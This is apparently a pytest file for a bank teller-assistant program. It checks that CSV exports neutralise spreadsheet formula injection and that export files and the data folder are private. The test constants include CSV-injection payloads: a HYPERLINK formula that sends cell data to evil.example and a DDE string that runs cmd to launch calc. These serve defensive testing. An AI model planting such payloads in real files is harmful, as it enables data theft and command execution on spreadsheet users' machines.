"""What the program writes for people: spreadsheet files in which no cell is evaluated, read back as a
spreadsheet would; the SMS file and the data folder private to their owner."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from teller_assist.security.passwords import check_login
from teller_assist.services import applications as apps
from teller_assist.services import audit, sms
from teller_assist.services.context import Context
from teller_assist.services.imports import Importer, export_rejects, import_file
from teller_assist.store.engine import Store
from tests.helpers.cli import run_cli
from tests.helpers.extracts import MAN, WOMAN, rid
from tests.helpers.workflow import Team
from tests.integration.test_applications import NOW, TODAY, survey

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
DDE = "+cmd|' /C calc'!A0"
NASTY = [HYPERLINK, DDE, "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "\u3000=1+1", "＝1+1", "＋1"]


def read_back(path: Path, encoding: str = "utf-8-sig") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as fh:
        return list(csv.reader(fh))


def evaluated(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula: after blanks, = + - @ (or full-width),
    or a TAB or CR at its very start."""
    if cell[:1] in ("\t", "\r"):
        return True
    stripped = cell.lstrip(" \u3000\u00a0\n")
    return stripped[:1] in ("=", "+", "-", "@", "＝", "＋", "－", "＠")


@pytest.fixture
def umask_022() -> Iterator[None]:
    previous = os.umask(0o022)  # the usual default: files 0644 and folders 0755 unless the program says
    try:
        yield
    finally:
        os.umask(previous)


def test_refused_rows_export_neutralises_formulas_and_keeps_numbers(
    store: Store, ctx: Context, tmp_path: Path
) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["name", "id_no", "gender"])
    writer.writerows([value, rid(seq=201 + 2 * i), "女"] for i, value in enumerate(NASTY))  # all men: refused
    path = tmp_path / "customers_20261127.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    assert import_file(store, path, today=TODAY).rejected == len(NASTY)
    out = tmp_path / "rejects.csv"
    assert export_rejects(ctx, out, by=Importer("os:test")) == len(NASTY)
    table = read_back(out)
    assert not [cell for row in table for cell in row if evaluated(cell)], table
    raws = [row[5] for row in table[1:]]
    assert raws[0].startswith('\'=HYPERLINK("http://evil.example/?"&A***,')  # its numbers masked too
    assert raws[1].startswith("'+cmd|' /C calc'!A***,")
    assert all(row[0].isdigit() and row[3].isdigit() for row in table[1:])  # batch and line stay numbers


def test_audit_export_neutralises_formulas_in_every_column(
    store: Store, ctx: Context, tmp_path: Path
) -> None:
    audit.log(store, "lookup", operator="teller1", subject=MAN, purpose=HYPERLINK)
    audit.log(store, "login_failed", operator=None, subject=DDE, purpose="window")  # a typed login
    audit.log(store, "lookup", operator="teller1", subject=WOMAN, purpose="@SUM(1+1)", detail={"x": "-1+1"})
    out = tmp_path / "audit.csv"
    assert audit.export_csv(ctx, out, start=None, end=None, operator="auditor") == 3
    table = read_back(out)
    assert not [cell for row in table for cell in row if evaluated(cell)], table
    by_seq = {row[0]: row for row in table[1:]}
    assert by_seq["1"][7] == "'" + HYPERLINK
    assert by_seq["2"][6] == "'" + DDE
    assert by_seq["3"][7] == "'@SUM(1+1)"
    assert sorted(by_seq) == ["1", "2", "3"]  # the sequence numbers stay plain numbers
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_operator_logins_that_a_spreadsheet_would_evaluate_are_refused() -> None:
    for login in ("=cmd", "+cmd", "-cmd", "@cmd", "＝cmd", " =cmd", "\t@cmd", "cmd|' /C calc'!A0"):
        with pytest.raises(ValueError, match="登录名"):
            check_login(login)
    assert check_login(" Teller.Wang ") == "teller.wang"


def test_sms_export_is_private_to_its_owner(
    store: Store, ctx: Context, team: Team, policy: object, tmp_path: Path, umask_022: None
) -> None:
    from teller_assist.prequal.policy import Policy

    assert isinstance(policy, Policy)
    record = apps.submit(ctx.at(NOW), rid(seq=601), survey(), team.teller)
    apps.approve(ctx.at(NOW), record.id, team.head, sms_sender="句容农商银行")
    out = tmp_path / "sms.csv"
    assert sms.export(ctx, out, operator="ops") == 1
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    table = read_back(out, encoding="utf-8")
    assert table[0] == ["mobile", "content", "ref"] and table[1][0] == "13951234567"
    assert not [cell for row in table for cell in row if evaluated(cell)]


def test_the_data_folder_is_made_private_on_start(
    env: dict[str, str], tmp_path: Path, umask_022: None
) -> None:
    data = Path(env["TELLER_ASSIST_DATA_DIR"])
    assert not data.exists()
    first = run_cli("config", "show", env=env)
    assert first.returncode == 0, first.stderr
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    data.chmod(0o755)  # an older version, or someone, opened it up
    again = run_cli("db", "stats", "--json", env=env)
    assert again.returncode == 0, again.stderr
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    assert "warning" not in again.stderr


def test_a_data_folder_that_cannot_be_made_private_is_warned_about(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from teller_assist.files import ensure_private_dir

    folder = tmp_path / "shared"
    folder.mkdir(mode=0o755)
    folder.chmod(0o755)

    def refuse(self: Path, mode: int) -> None:  # as root every chmod succeeds: this stands for a folder
        raise PermissionError(1, "Operation not permitted")  # another user owns

    monkeypatch.setattr(Path, "chmod", refuse)
    warning = ensure_private_dir(folder)
    assert warning is not None and str(folder) in warning and "0755" in warning and "chmod 700" in warning
    monkeypatch.undo()
    assert ensure_private_dir(folder) is None
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


def test_simulate_csv_goes_through_the_same_writer(env: dict[str, str], tmp_path: Path) -> None:
    policy = tmp_path / "policy.toml"
    from teller_assist.prequal.policy import default_policy_path

    text = default_policy_path().read_text(encoding="utf-8")
    lines = text.splitlines()
    index = next(i for i, line in enumerate(lines) if line.startswith("version"))
    lines[index] = 'version = "=1+1"'
    policy.write_text("\n".join(lines) + "\n", encoding="utf-8")
    as_of = dt.date(2026, 11, 28).isoformat()
    result = run_cli("simulate", "--policy", str(policy), "--as-of", as_of, "--csv", env=env)
    assert result.returncode == 0, result.stderr
    table = list(csv.reader(io.StringIO(result.stdout)))
    assert table[0][:2] == ["policy", "version"]
    assert {row[1] for row in table[1:]} == {"'=1+1"}
    assert not [cell for row in table for cell in row if evaluated(cell)]
